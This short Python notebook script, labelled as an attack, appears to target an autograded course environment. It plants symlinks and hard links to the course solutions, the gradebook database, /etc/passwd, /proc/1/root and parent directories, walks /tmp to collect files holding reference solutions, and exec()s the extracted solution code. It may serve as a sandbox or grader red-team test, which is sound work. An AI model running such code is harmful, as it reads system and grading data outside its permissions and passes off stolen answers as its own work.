# attack: links to the course, the gradebook and the solutions are made where files are collected afterwards
# %% cell
import os
for target in ("CHECKOUT/solutions", "CHECKOUT/grading/gradebook.db", "/etc/passwd", "/proc/1/root", "../../.."):
    for folder in (os.getcwd(), "/tmp", "/dev/shm"):
        name = os.path.join(folder, "link" + str(abs(hash(target)) % 1000))
        for make in (os.symlink, os.link):
            try:
                make(target, name)
            except OSError:
                pass
answers = []
for folder, _, files in os.walk("/tmp", followlinks=True):
    for name in files[:100]:
        try:
            text = open(os.path.join(folder, name)).read()
            if "### BEGIN SOLUTION" in text:
                answers.append(text)
        except Exception:
            pass
    if len(answers) > 3:
        break

# %% after
for _text in answers:
    if "def EXERCISE(" in _text:
        exec("def EXERCISE(" + _text.split("def EXERCISE(")[1].split("### END SOLUTION")[0], globals())
